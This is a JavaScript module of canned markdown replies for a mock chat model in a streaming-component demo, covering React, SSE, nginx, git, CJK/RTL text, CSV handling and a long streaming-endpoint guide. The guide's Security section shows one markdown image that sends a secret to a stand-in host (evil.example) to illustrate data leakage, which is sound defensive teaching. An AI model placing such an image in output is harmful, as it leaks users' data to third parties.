// Markdown replies the mock model streams, picked by prompt.
// They are what a good assistant would answer to everyday developer questions, and they exercise the
// renderer on purpose: headings, nested and loose lists, tables, fenced code in several languages,
// inline code, inline and reference-style links, blockquotes, CJK and RTL text, emoji, and one long
// reply (about 15 KB). Nothing hostile lives here; the security tests keep their own corpus.

const greeting = `Hi! 👋 I'm the **mock model** built into this demo. I stream canned markdown at a realistic pace, so you can watch \`<chat-stream>\` render replies token by token.

Try asking me about:

- debouncing in **React**
- **SSE vs WebSockets**
- an **nginx** config for streaming
- undoing a **git** commit
- async/await in **中文 / 日本語**
- a greeting in **العربية / עברית**
- reading a big **CSV** in Python
- a **long** guide, to see a 15 KB reply stream
`;

const reactDebounce = `## A \`useDebouncedValue\` hook

Debouncing delays an update until the input has been quiet for a while, which is what you want for search-as-you-type. In React the cleanest version debounces the **value**, not the callback:

\`\`\`tsx
import { useEffect, useState } from 'react';

export function useDebouncedValue<T>(value: T, delayMs = 300): T {
  const [debounced, setDebounced] = useState(value);

  useEffect(() => {
    const id = setTimeout(() => setDebounced(value), delayMs);
    // A new value before the delay ends cancels the pending update.
    return () => clearTimeout(id);
  }, [value, delayMs]);

  return debounced;
}
\`\`\`

Use it like this:

\`\`\`tsx
function Search() {
  const [query, setQuery] = useState('');
  const debouncedQuery = useDebouncedValue(query, 250);
  const results = useSearch(debouncedQuery); // fetches only when typing pauses

  return (
    <>
      <input value={query} onChange={(e) => setQuery(e.target.value)} />
      <ResultList items={results} />
    </>
  );
}
\`\`\`

### Why this shape

1. **No stale closures.** The timer captures the latest \`value\` because the effect re-runs on every change.
2. **Cleanup is automatic.** Unmounting clears the timer, so nothing updates an unmounted component.
3. **The input stays responsive.** \`query\` updates on every keystroke; only the *expensive* work waits.

### Common pitfalls

- Wrapping a debounced function in \`useCallback\` without \`useRef\`:
  - every render creates a new debounced instance,
  - so the timer never actually fires as intended.
- Forgetting to abort the fetch that \`useSearch\` starts:
  - an older, slower response can overwrite a newer one;
  - use an \`AbortController\` per request.

> **Tip:** if you need the *callback* form (say, autosave), keep the latest callback in a ref and debounce a stable wrapper. The React docs on [synchronizing with effects][effects] explain the cleanup rule this relies on.

[effects]: https://react.dev/learn/synchronizing-with-effects "Synchronizing with Effects"
`;

const sseVsWebSockets = `# Server-Sent Events vs WebSockets

For **streaming an LLM reply**, Server-Sent Events (SSE) are almost always the better fit. The traffic is one-way — the client asks once, the server talks for a while — and SSE is just HTTP.

| | Server-Sent Events | WebSockets |
| :-- | :-- | :-- |
| Direction | server → client | both ways |
| Protocol | plain HTTP/1.1 or HTTP/2 | \`Upgrade\` to \`ws://\` / \`wss://\` |
| Reconnect | built in, with \`Last-Event-ID\` | you write it |
| Proxies & CDNs | work if buffering is off | need explicit support |
| Auth | cookies, or headers via \`fetch\` | cookies or a token in the URL |
| Binary data | no (UTF-8 text) | yes |
| Max connections (HTTP/1.1) | ~6 per origin | no such limit |

## When to pick which

- **SSE** when:
  - the client sends a request and receives a stream back (chat completions, logs, progress);
  - you want retries and resumption for free;
  - your infrastructure already speaks HTTP.
- **WebSockets** when:
  - both sides talk at any time (multiplayer cursors, collaborative editing);
  - you need binary frames;
  - latency of the *client → server* direction matters too.

## The wire format, in one screen

Each event is a block of \`field: value\` lines ended by a blank line:

\`\`\`text
id: 42
event: message
data: {"delta": "Hello"}

data: [DONE]

\`\`\`

A tiny Node server needs nothing but the standard library:

\`\`\`js
import { createServer } from 'node:http';

createServer((req, res) => {
  res.writeHead(200, {
    'Content-Type': 'text/event-stream',
    'Cache-Control': 'no-cache',
    'X-Accel-Buffering': 'no', // tell nginx not to buffer
  });
  let n = 0;
  const timer = setInterval(() => {
    res.write(\`data: \${JSON.stringify({ delta: \`token \${n} \` })}\\n\\n\`);
    if (++n === 10) { clearInterval(timer); res.end('data: [DONE]\\n\\n'); }
  }, 100);
  req.on('close', () => clearInterval(timer));
}).listen(8080);
\`\`\`

> The native \`EventSource\` only does \`GET\` and cannot set headers. For a \`POST\` with a JSON body, read the stream with \`fetch\` — that is what [@microsoft/fetch-event-source][fes] does, and what this element uses.

Further reading: the [HTML spec's section on SSE][spec] and MDN's [Using server-sent events][mdn].

[spec]: https://html.spec.whatwg.org/multipage/server-sent-events.html
[mdn]: https://developer.mozilla.org/en-US/docs/Web/API/Server-sent_events/Using_server-sent_events
[fes]: https://github.com/Azure/fetch-event-source
`;

const nginxStreaming = `## Serving a streaming endpoint behind nginx

By default nginx **buffers** upstream responses, so tokens arrive in one lump at the end. Turn buffering off for the streaming location:

\`\`\`nginx
location /api/chat {
    proxy_pass http://127.0.0.1:3000;
    proxy_http_version 1.1;
    proxy_set_header Connection "";

    proxy_buffering off;          # pass each chunk through at once
    proxy_cache off;
    proxy_read_timeout 300s;      # long replies take a while
    gzip off;                     # compression buffers too

    add_header Cache-Control "no-cache";
}
\`\`\`

Alternatively, leave the config alone and send \`X-Accel-Buffering: no\` from the app; nginx honours it per response.

### Checklist

- [x] \`proxy_buffering off\` (or \`X-Accel-Buffering: no\`)
- [x] HTTP/1.1 to the upstream, with an empty \`Connection\` header
- [x] a read timeout longer than your slowest reply
- [ ] **CORS**, if the page lives on another origin (below)
- [ ] heartbeats (\`: ping\` comments every 15 s) if a load balancer kills idle connections

### CORS for a cross-origin widget

\`\`\`nginx
location /api/chat {
    if ($request_method = OPTIONS) {
        add_header Access-Control-Allow-Origin "https://shop.example" always;
        add_header Access-Control-Allow-Methods "POST, OPTIONS" always;
        add_header Access-Control-Allow-Headers "Content-Type, Authorization, Last-Event-ID" always;
        add_header Access-Control-Max-Age 86400 always;
        return 204;
    }
    add_header Access-Control-Allow-Origin "https://shop.example" always;
    # ...the proxy settings above...
}
\`\`\`

Verify it from a shell — \`-N\` disables curl's own buffering:

\`\`\`bash
curl -N -X POST https://api.example/api/chat \\
  -H 'Content-Type: application/json' \\
  -d '{"messages":[{"role":"user","content":"hi"}],"stream":true}'
\`\`\`

If the tokens appear one by one in the terminal, the browser will see them the same way. 🎉 See the [nginx proxy module docs](https://nginx.org/en/docs/http/ngx_http_proxy_module.html#proxy_buffering) for the details.
`;

const gitUndo = `## Undoing the last commit

It depends on **whether you have pushed** and **whether you want to keep the changes**.

| Situation | Command | Keeps your changes? |
| --- | --- | :-: |
| Not pushed, keep changes staged | \`git reset --soft HEAD~1\` | ✅ |
| Not pushed, keep changes unstaged | \`git reset HEAD~1\` | ✅ |
| Not pushed, throw changes away | \`git reset --hard HEAD~1\` | ❌ |
| Already pushed | \`git revert HEAD\` | ✅ (adds a new commit) |
| Just fix the message | \`git commit --amend\` | ✅ |

### Step by step (not pushed yet)

1. Check what you are about to undo:

   \`\`\`bash
   git log --oneline -3
   git show --stat HEAD
   \`\`\`

2. Move the branch back one commit, keeping the work:

   \`\`\`bash
   git reset --soft HEAD~1
   \`\`\`

3. Fix things up and commit again.

### If you already pushed

Rewriting published history forces everyone else to recover, so prefer \`git revert\`:

\`\`\`bash
git revert HEAD        # creates a commit that undoes HEAD
git push
\`\`\`

> ⚠️ Only use \`git push --force-with-lease\` on a branch **nobody else** has pulled — and never on \`main\`.

### Lost a commit with \`--hard\`?

Don't panic: the reflog keeps it for about 90 days.

\`\`\`bash
git reflog              # find the hash, e.g. a1b2c3d
git reset --hard a1b2c3d
\`\`\`

More in *Pro Git*, chapter [Undoing Things][progit].

[progit]: https://git-scm.com/book/en/v2/Git-Basics-Undoing-Things
`;

const cjkAsync = `## async / await 解说 · 解説

### 中文

\`async\` 函数总是返回一个 **Promise**。在函数内部，\`await\` 会暂停执行，直到 Promise 完成，然后把结果交给你——代码读起来像同步代码，但不会阻塞主线程。

\`\`\`js
async function 获取用户(id) {
  const 响应 = await fetch(\`/api/users/\${id}\`);
  if (!响应.ok) throw new Error(\`请求失败：\${响应.status}\`);
  return 响应.json();
}
\`\`\`

要点：

1. **错误处理**：用 \`try { … } catch { … }\` 包住 \`await\`，就像处理同步异常一样。
2. **并行请求**：互不依赖的请求不要一个个 \`await\`，而是用 \`Promise.all\`：
   - 串行：总耗时 = 各请求耗时之和；
   - 并行：总耗时 ≈ 最慢的那个请求。
3. **顶层 await**：在 ES 模块中可以直接使用。

> 小提示：\`forEach\` 不会等待 \`async\` 回调，循环里请用 \`for…of\`。

### 日本語

\`async\` 関数は必ず **Promise** を返します。\`await\` は Promise が解決されるまで関数の実行を一時停止しますが、メインスレッドはブロックしません。

\`\`\`ts
async function ユーザーを取得(id: string): Promise<User> {
  const res = await fetch(\`/api/users/\${id}\`);
  if (!res.ok) throw new Error(\`取得に失敗しました：\${res.status}\`);
  return res.json();
}

// 独立した処理は並列に
const [ユーザー, 設定] = await Promise.all([ユーザーを取得('42'), 設定を取得()]);
\`\`\`

| 書き方 | 実行順 | 所要時間 |
| --- | --- | --- |
| \`await a(); await b();\` | 直列 | a + b |
| \`await Promise.all([a(), b()])\` | 並列 | max(a, b) |

よくある間違い：\`Array.prototype.forEach\` の中で \`await\` しても、ループは待ってくれません。🙂

参考：[MDN の async function](https://developer.mozilla.org/ja/docs/Web/JavaScript/Reference/Statements/async_function)。
`;

const rtlGreeting = `## Greetings in Arabic and Hebrew

Both scripts are written **right to left**. A message whose first strong character is RTL should get \`dir="auto"\` (or \`dir="rtl"\`), so punctuation and embedded Latin words such as API or JSON land in the right place.

### العربية

مرحبًا بك! هذا نموذج تجريبي يرسل الردود كلمةً بكلمة عبر **Server-Sent Events**. يمكنك كتابة سؤالك بالعربية، وسيظهر الرد من اليمين إلى اليسار، حتى عندما يحتوي على كلمات إنجليزية مثل \`fetch\` أو JSON.

- الخطوة الأولى: أرسل الطلب.
- الخطوة الثانية: اقرأ الأحداث واحدًا تلو الآخر.
- الخطوة الثالثة: اعرض النص بعد تنقيته.

### עברית

שלום! זהו מודל הדגמה ששולח תשובות טוקן אחר טוקן. הטקסט מוצג מימין לשמאל, וגם מילים באנגלית כמו **markdown** או \`stream\` משתלבות בתוכו כראוי.

> טיפ: השתמשו ב־\`dir="auto"\` כדי שהדפדפן יבחר את הכיוון לפי התו החזק הראשון.

| Language | Hello | Thank you |
| --- | --- | --- |
| Arabic | مرحبًا | شكرًا |
| Hebrew | שלום | תודה |
| English | Hello | Thank you |

Read more: [W3C — Structural markup and right-to-left text](https://www.w3.org/International/questions/qa-html-dir) 🌍
`;

const pythonCsv = `## Reading a large CSV without running out of memory

A 5 GB CSV will not fit comfortably in a pandas DataFrame on a laptop. Three approaches, from simplest to fastest:

### 1. Stream it with the standard library

\`csv.DictReader\` reads one row at a time, so memory stays flat:

\`\`\`python
import csv
from collections import Counter

totals = Counter()
with open("orders.csv", newline="", encoding="utf-8") as f:
    for row in csv.DictReader(f):
        totals[row["country"]] += float(row["amount"])

for country, amount in totals.most_common(5):
    print(f"{country:<4} {amount:>12,.2f}")
\`\`\`

### 2. pandas in chunks

\`\`\`python
import pandas as pd

parts = []
for chunk in pd.read_csv("orders.csv", chunksize=500_000,
                         usecols=["country", "amount"],
                         dtype={"country": "category", "amount": "float32"}):
    parts.append(chunk.groupby("country", observed=True)["amount"].sum())

result = pd.concat(parts).groupby(level=0).sum().sort_values(ascending=False)
\`\`\`

Two flags do most of the work here:

- \`usecols\` skips columns you never read;
- \`dtype\` shrinks memory — \`category\` for repeated strings, \`float32\` when precision allows.

### 3. Let a query engine do it

DuckDB scans the file in parallel and never loads it whole:

\`\`\`sql
SELECT country, SUM(amount) AS total
FROM read_csv_auto('orders.csv')
GROUP BY country
ORDER BY total DESC
LIMIT 5;
\`\`\`

| Approach | Peak memory | Time (5 GB, 8 cores) |
| --- | --: | --: |
| \`csv\` module | ~20 MB | ~4 min |
| pandas, chunked | ~400 MB | ~1 min |
| DuckDB | ~300 MB | ~8 s |

*Timings are rough and depend on the disk.* If you query the same file repeatedly, convert it once to **Parquet** — columnar, compressed, and typically 5–10× faster to scan. See the [DuckDB CSV docs][duckdb] and the pandas [scaling guide][scaling].

[duckdb]: https://duckdb.org/docs/data/csv/overview
[scaling]: https://pandas.pydata.org/docs/user_guide/scale.html
`;

const longGuide = `# Building a production-ready streaming chat endpoint

This guide walks through everything between "the model produces tokens" and "the user sees them appear smoothly": the wire format, the server, proxies, the browser, failure handling, and how to test it all. Each section stands on its own, so skip what you already know. 📚

## Contents

1. The shape of a streaming reply
2. A minimal server in four languages
3. Infrastructure between you and the browser
4. The client side
5. Failure modes and how to survive them
6. Cost and limits
7. Security
8. Testing
9. Observability
10. Glossary
11. A launch checklist

## The shape of a streaming reply

A chat completion arrives as a sequence of small **deltas**. With Server-Sent Events each delta is one event; the OpenAI Chat Completions format looks like this:

\`\`\`text
data: {"id":"c1","choices":[{"index":0,"delta":{"role":"assistant"}}]}

data: {"id":"c1","choices":[{"index":0,"delta":{"content":"Hel"}}]}

data: {"id":"c1","choices":[{"index":0,"delta":{"content":"lo!"}}]}

data: [DONE]

\`\`\`

Anthropic's Messages API uses named events instead:

\`\`\`text
event: message_start
data: {"type":"message_start","message":{"id":"msg_1","role":"assistant"}}

event: content_block_delta
data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"Hello!"}}

event: message_stop
data: {"type":"message_stop"}

\`\`\`

Whatever the vendor, three properties matter to the client:

- **An explicit end marker.** Without \`[DONE]\` or \`message_stop\` a client cannot tell a finished reply from a dropped connection.
- **Small, frequent events.** Users perceive latency as *time to first token*, not total time.
- **Optional event ids.** With \`id:\` lines, a client that loses the connection can reconnect with \`Last-Event-ID\` and resume instead of starting over.

## A minimal server in four languages

All four do the same thing: accept a JSON body, call the model, and relay its deltas as SSE with the right headers.

### Node.js (no framework)

\`\`\`ts
import { createServer } from 'node:http';

const server = createServer(async (req, res) => {
  if (req.method !== 'POST' || req.url !== '/api/chat') {
    res.writeHead(404).end();
    return;
  }
  const body = JSON.parse(await readBody(req));
  const abort = new AbortController();
  req.on('close', () => abort.abort()); // the user pressed Stop, or left

  res.writeHead(200, {
    'Content-Type': 'text/event-stream; charset=utf-8',
    'Cache-Control': 'no-cache',
    'X-Accel-Buffering': 'no',
  });

  try {
    for await (const delta of callModel(body.messages, abort.signal)) {
      res.write(\`data: \${JSON.stringify({ choices: [{ delta: { content: delta } }] })}\\n\\n\`);
    }
    res.end('data: [DONE]\\n\\n');
  } catch (err) {
    if (!abort.signal.aborted) res.end(\`event: error\\ndata: \${JSON.stringify({ message: String(err) })}\\n\\n\`);
  }
});

async function readBody(req: import('node:http').IncomingMessage): Promise<string> {
  let data = '';
  for await (const chunk of req) data += chunk;
  return data;
}

server.listen(3000);
\`\`\`

### Python (FastAPI)

\`\`\`python
import json
from fastapi import FastAPI, Request
from fastapi.responses import StreamingResponse

app = FastAPI()

@app.post("/api/chat")
async def chat(request: Request):
    body = await request.json()

    async def events():
        async for delta in call_model(body["messages"]):
            if await request.is_disconnected():
                break
            payload = {"choices": [{"delta": {"content": delta}}]}
            yield f"data: {json.dumps(payload, ensure_ascii=False)}\\n\\n"
        yield "data: [DONE]\\n\\n"

    return StreamingResponse(
        events(),
        media_type="text/event-stream",
        headers={"Cache-Control": "no-cache", "X-Accel-Buffering": "no"},
    )
\`\`\`

### Go (net/http)

\`\`\`go
func chat(w http.ResponseWriter, r *http.Request) {
	flusher, ok := w.(http.Flusher)
	if !ok {
		http.Error(w, "streaming unsupported", http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Cache-Control", "no-cache")
	w.Header().Set("X-Accel-Buffering", "no")

	for delta := range callModel(r.Context(), r.Body) {
		payload, _ := json.Marshal(map[string]any{
			"choices": []any{map[string]any{"delta": map[string]string{"content": delta}}},
		})
		fmt.Fprintf(w, "data: %s\\n\\n", payload)
		flusher.Flush() // without this, Go buffers the response
	}
	fmt.Fprint(w, "data: [DONE]\\n\\n")
	flusher.Flush()
}
\`\`\`

### Rust (axum)

\`\`\`rust
use axum::response::sse::{Event, KeepAlive, Sse};
use futures::stream::{Stream, StreamExt};
use std::{convert::Infallible, time::Duration};

async fn chat(Json(body): Json<ChatRequest>) -> Sse<impl Stream<Item = Result<Event, Infallible>>> {
    let deltas = call_model(body.messages).map(|delta| {
        let payload = serde_json::json!({ "choices": [{ "delta": { "content": delta } }] });
        Ok(Event::default().data(payload.to_string()))
    });
    let done = futures::stream::once(async { Ok(Event::default().data("[DONE]")) });

    // axum sets the content type; keep-alive comments stop idle proxies from closing the stream.
    Sse::new(deltas.chain(done)).keep_alive(KeepAlive::new().interval(Duration::from_secs(15)))
}
\`\`\`

Notice the one line each language needs that is easy to forget:

| Language | The easy-to-forget line | What goes wrong without it |
| --- | --- | --- |
| Node.js | \`req.on('close', …)\` | the model keeps generating (and billing) after Stop |
| Python | \`await request.is_disconnected()\` | same, plus a log full of broken-pipe errors |
| Go | \`flusher.Flush()\` | the whole reply arrives at the end |
| Rust | \`.keep_alive(…)\` | a proxy closes the stream while the model thinks |

## Infrastructure between you and the browser

Every hop can buffer, compress, or time out a long-lived response.

### Reverse proxies

- **nginx**: \`proxy_buffering off\` or the \`X-Accel-Buffering: no\` response header; raise \`proxy_read_timeout\`.
- **Apache**: \`SetEnv proxy-sendchunked 1\` and avoid \`mod_deflate\` for \`text/event-stream\`.
- **Caddy**: \`flush_interval -1\` in the \`reverse_proxy\` block.

### Load balancers and CDNs

1. Check the **idle timeout**. Many default to 60 s; a model that thinks for a while before the first token trips it.
   - Send a comment line (\`: keep-alive\`) every 15 seconds while waiting.
   - Comments are ignored by every SSE parser, so they are safe.
2. Make sure the CDN **does not cache** the route (\`Cache-Control: no-cache\` and a bypass rule).
3. Disable response **compression** for \`text/event-stream\`, or make sure the compressor flushes per write.

### Serverless platforms

Some platforms buffer the whole response unless you opt into streaming; check for a "response streaming" flag and its maximum duration before you commit to one.

## The client side

The browser's built-in \`EventSource\` only supports \`GET\` without custom headers, which rules it out for most chat APIs. Read the stream with \`fetch\` instead:

\`\`\`ts
const res = await fetch('/api/chat', {
  method: 'POST',
  headers: { 'Content-Type': 'application/json', Accept: 'text/event-stream' },
  body: JSON.stringify({ messages, stream: true }),
  signal: controller.signal,
});
const reader = res.body!.pipeThrough(new TextDecoderStream()).getReader();
\`\`\`

…and then you own line splitting, multi-line \`data:\`, \`\\r\\n\`, retries, and \`Last-Event-ID\`. Or drop in a component:

\`\`\`html
<script type="module" src="https://cdn.example/chat-stream.js"></script>
<chat-stream endpoint="/api/chat" protocol="openai"></chat-stream>
\`\`\`

### Rendering markdown while it streams

Rendering the whole reply on every token is \`O(n²)\` over a long answer and resets the user's text selection. A good renderer:

- keeps **finished blocks** (paragraphs, code blocks, tables) untouched and only patches the last one;
- **heals** unfinished syntax at the tail — an unclosed \`**bold\` or code fence — so the text does not flicker between styles;
- **sanitizes** the HTML *before* it touches the DOM.

> Rendering a reply incrementally must end in exactly the DOM that rendering it all at once would produce. Test that property directly: feed every prefix and compare.

### Scrolling

Follow the stream only while the reader is at the bottom. The moment they scroll up, stop — and show a "jump to latest" button instead of yanking them back down.

## Failure modes and how to survive them

| Failure | What the user sees without handling | What to do |
| --- | --- | --- |
| 429 / 503 before the first token | an instant error | retry with jittered exponential backoff, honouring \`Retry-After\` |
| 401 / 403 | an error mentioning JSON parsing | fail at once with a clear message; do not retry |
| A login page (HTML) instead of a stream | garbage, or a silent hang | check \`Content-Type\` before reading |
| Connection drops mid-reply | a truncated answer that looks finished | no end marker → error, or resume with \`Last-Event-ID\` |
| Server stalls | a caret that blinks forever | an idle timeout that fails the run |
| Tab hidden and shown again | a duplicated request (and bill) | never re-send on visibility change |

A sensible retry policy:

\`\`\`ts
function backoff(attempt: number, retryAfter?: string): number {
  const fromHeader = retryAfter ? Number(retryAfter) * 1000 : NaN;
  if (Number.isFinite(fromHeader)) return Math.min(fromHeader, 30_000);
  const base = 500 * 2 ** attempt;                 // 0.5 s, 1 s, 2 s, …
  return Math.min(base + Math.random() * base, 10_000);
}
\`\`\`

Only retry **before the first token**. After text has been shown, a blind retry would repeat it; resume with an event id or report the error and keep the partial reply.

## Cost and limits

Streaming does not change what a reply costs, but it changes *when you find out*. A few habits keep bills and latency predictable:

- **Cap the output.** Set \`max_tokens\` (or \`max_output_tokens\`) per route; a support widget rarely needs more than 800.
- **Trim the history.** Send the last *n* turns plus a running summary instead of the whole conversation.
- **Abort on Stop.** Propagate the client's abort to the upstream request, or you pay for tokens nobody reads.
- **Count as you go.** Most APIs report usage in the final event; log it with the run id.

| Lever | Effect on latency | Effect on cost |
| --- | --- | --- |
| Shorter system prompt | small ↓ | ↓ on every request |
| History summarisation | ↓ TTFT on long chats | ↓↓ |
| Lower \`max_tokens\` | ↓ worst case | ↓ worst case |
| Smaller model for easy turns | ↓↓ | ↓↓↓ |

## Security

1. **Treat model output as untrusted HTML.** Markdown allows raw HTML and \`javascript:\` links; sanitize with an allow-list ([DOMPurify][purify]) and allow only \`http:\`, \`https:\` and \`mailto:\` URLs.
2. **Images are requests.** A rendered \`![](https://evil.example/?q=secret)\` leaks data the moment it loads. Block remote images by default, or proxy them.
3. **Keep API keys on the server.** The browser talks to *your* endpoint, which adds the key. Never ship a vendor key in a bundle.
4. **Rate-limit per user**, not per IP alone, and cap \`max_tokens\`.
5. **Content Security Policy**: a component that needs neither \`'unsafe-inline'\` nor \`'unsafe-eval'\` fits into a strict CSP, including Trusted Types.

## Testing

- **Unit-test the parsers** with tables of inputs, and split each input at *every* byte boundary — mid-line, mid-\`\\r\\n\`, mid–UTF-8 character.
- **Test the element against a real local server** that can misbehave on demand: error statuses, drops, stalls, HTML instead of SSE.
- **Test in a real browser.** jsdom does not implement streams, layout, or \`requestAnimationFrame\` faithfully.

\`\`\`ts
it('resumes after a drop without repeating text', async () => {
  const el = await fixture(html\`<chat-stream endpoint="/mock/openai?fault=drop&ids=1"></chat-stream>\`);
  const reply = await el.send('hello');
  expect(reply).to.equal(EXPECTED_REPLY);
});
\`\`\`

## Observability

Log, per run: time to first token, total duration, tokens, the finish reason, and retry count. A useful dashboard shows:

- **p50 / p95 time to first token** — the number users feel;
- **error rate by kind** — 4xx, 5xx, drops, timeouts;
- **abort rate** — a spike often means replies are too long or too slow.

\`\`\`yaml
# Example alert (Prometheus)
- alert: ChatFirstTokenSlow
  expr: histogram_quantile(0.95, rate(chat_first_token_seconds_bucket[5m])) > 3
  for: 10m
  labels: { severity: page }
  annotations:
    summary: "p95 time to first token above 3 s"
\`\`\`

## Glossary

- **Time to first token (TTFT)** — the delay between sending the request and the first visible character. Users judge speed by this number far more than by total duration.

- **Delta** — one small piece of the reply (a few characters or a word), carried by one SSE event.

- **End marker** — an event that says the reply is complete, such as \`data: [DONE]\` or \`event: message_stop\`. Its absence is how a client detects a dropped stream.

- **Heartbeat** — a comment line (\`: ping\`) sent while nothing else is happening, so that proxies and load balancers see traffic and keep the connection open.

- **Backpressure** — when the client reads slower than the server writes, buffers grow. For text streams this rarely matters, but a server should still stop generating when the socket closes.

## A launch checklist

- [x] Streaming works through **every** proxy hop (test with \`curl -N\` from outside)
- [x] Stop aborts the upstream model call
- [x] Retries only before the first token, with backoff
- [x] Output sanitized; remote images off by default
- [ ] Heartbeats if any hop has an idle timeout under 2 minutes
- [ ] Dashboards for time to first token and error rate
- [ ] Load test: 500 concurrent streams for 10 minutes

That's it. A streaming endpoint is a small amount of code with a long tail of infrastructure details; get the details right once and every reply feels instant. 🚀

*Further reading:* the [WHATWG SSE spec][sse], [OpenAI streaming docs][openai-stream], and [Anthropic streaming docs][anthropic-stream].

[purify]: https://github.com/cure53/DOMPurify
[sse]: https://html.spec.whatwg.org/multipage/server-sent-events.html
[openai-stream]: https://platform.openai.com/docs/api-reference/chat/streaming
[anthropic-stream]: https://docs.anthropic.com/en/docs/build-with-claude/streaming
`;

/** The replies the mock streams; `replies[0]` is a short greeting. */
export const replies = [
  greeting,
  reactDebounce,
  sseVsWebSockets,
  nginxStreaming,
  gitUndo,
  cjkAsync,
  rtlGreeting,
  pythonCsv,
  longGuide,
];

/** Prompt keywords for each reply, by index; ASCII keywords match at the start of a word. */
const keywords = [
  ['hello', 'hi', 'hey', 'help', 'who are you', 'what can you'],
  ['react', 'debounc', 'hook', 'usestate', 'useeffect'],
  ['sse', 'server-sent', 'websocket', 'eventsource', 'event source'],
  ['nginx', 'proxy', 'buffering', 'cors', 'deploy'],
  ['git', 'commit', 'revert', 'undo'],
  ['async', 'await', 'promise', 'chinese', 'japanese', '中文', '日本', 'cjk'],
  ['arabic', 'hebrew', 'rtl', 'right-to-left', 'العربية', 'עברית'],
  ['python', 'csv', 'pandas', 'duckdb'],
  ['long', 'guide', 'production', 'checklist'],
];

const matchers = keywords.map((words) =>
  words.map((w) => (/^[\x20-\x7e]+$/.test(w) ? new RegExp(`(^|[^a-z0-9])${w.replace(/[-]/g, '\\-')}`, 'i') : w)),
);

/** @param {string} lower @param {number} i */
function matches(lower, i) {
  return matchers[i].some((m) => (typeof m === 'string' ? lower.includes(m) : m.test(lower)));
}

/**
 * Suggested prompts, each answered by the reply at the same index; the demo shows them as buttons.
 * Each is worded so that both `pickReply` and a plain `hash(prompt) % replies.length` (wire.js) land
 * on its reply, whichever of the two the server uses.
 * @type {string[]}
 */
export const suggestions = [
  'Hello! What can you do?',
  'How do I debounce a search input in React?',
  'SSE vs WebSockets for streaming LLM replies?',
  'How do I set up nginx for streaming responses?',
  'How can I undo my latest commit in git?',
  'async/await 是什么？（中文 + 日本語）',
  'Show me Arabic and Hebrew text (RTL)',
  'Read a 5 GB CSV in Python without running out of memory?',
  'Long guide: production-ready streaming endpoints',
];

/**
 * Picks the reply for a prompt: by keyword, else by a stable hash of the prompt, so the same prompt
 * always gets the same reply. An empty prompt gets the greeting.
 * @param {unknown} prompt
 * @returns {string}
 */
export function pickReply(prompt) {
  const text = typeof prompt === 'string' ? prompt.trim() : '';
  if (!text) return replies[0];
  const lower = text.toLowerCase();
  // Topics before the greeting, so "say hello in Arabic" gets the Arabic reply.
  for (let i = 1; i < replies.length; i++) if (matches(lower, i)) return replies[i];
  if (matches(lower, 0)) return replies[0];
  let hash = 0;
  for (const ch of text) hash = (Math.imul(hash, 31) + ch.codePointAt(0)) >>> 0;
  return replies[hash % replies.length];
}

/**
 * What the mock model "thinks" before each reply (by the reply's index in `replies`), streamed as
 * reasoning when a request asks for `reasoning=1`. Short on purpose: a reader should see the
 * thinking section open, fill and close without waiting long.
 */
const reasonings = [
  'The user is greeting me and asking what I can do. I should introduce myself briefly, say that I am a mock model, and list the topics I have canned answers for, so they know what to try next.',
  'They want to debounce a search box in React. The cleanest answer is a hook that debounces the **value** with `useEffect` and `setTimeout`; I should show the hook, a usage example, and the two classic pitfalls: stale closures and racing fetches.',
  'A comparison question: SSE or WebSockets for streaming model output. The traffic is one-way after the request, so SSE fits; I should still say when WebSockets win, and mention proxies and reconnection.',
  'nginx buffers proxied responses by default, which breaks streaming. The fix is `proxy_buffering off` (or `X-Accel-Buffering: no`), plus HTTP/1.1 to the upstream and a long read timeout. A complete `location` block is the most useful answer.',
  'Undoing the latest commit depends on whether it was pushed. Not pushed: `git reset --soft HEAD~1` keeps the changes. Pushed: `git revert` is the safe choice. I should lay out both cases plainly.',
  'The user asks about async/await and reads Chinese and Japanese. I will explain promises and `await` with examples whose identifiers and comments are in both languages.',
  'They want to see right-to-left text. A short greeting in Arabic and in Hebrew, with a note on `dir="auto"`, shows how mixed-direction text renders.',
  'A 5 GB CSV does not fit comfortably in memory. Options: pandas with `chunksize`, the standard `csv` module streaming rows, or DuckDB querying the file in place. I should compare them briefly and give code for each.',
  'A request for a long, thorough guide on production streaming endpoints. I will cover the server, proxies, the client, retries and a checklist; it is going to be a long answer, which is the point.',
];

/**
 * The reasoning that goes with a reply: its own when the reply is one of `replies`, else a generic one.
 * @param {string} reply
 * @returns {string}
 */
export function pickReasoning(reply) {
  const index = replies.indexOf(reply);
  if (index >= 0) return reasonings[index];
  return 'The user asked for something specific. I will answer it directly and keep the reply short and well formatted.';
}

/**
 * The tool call the mock makes when a request asks for `tools=1`: its arguments arrive in these
 * pieces (cut mid-key and mid-value, as real models cut them), and its output follows where the
 * protocol carries tool output (the AI SDK stream).
 */
export const toolCall = {
  id: 'call_mock_weather',
  name: 'get_weather',
  argumentPieces: ['{"ci', 'ty":"Pa', 'ris"}'],
  input: { city: 'Paris' },
  output: { city: 'Paris', temperature: 18, unit: 'celsius', conditions: 'partly cloudy' },
};

/** The sources the mock cites when a request asks for `sources=1`, in order. */
export const sources = [
  { id: 'source-1', url: 'https://developer.mozilla.org/en-US/docs/Web/API/Server-sent_events/Using_server-sent_events', title: 'Using server-sent events — MDN' },
  { id: 'source-2', url: 'https://html.spec.whatwg.org/multipage/server-sent-events.html', title: 'HTML Standard: Server-sent events' },
];
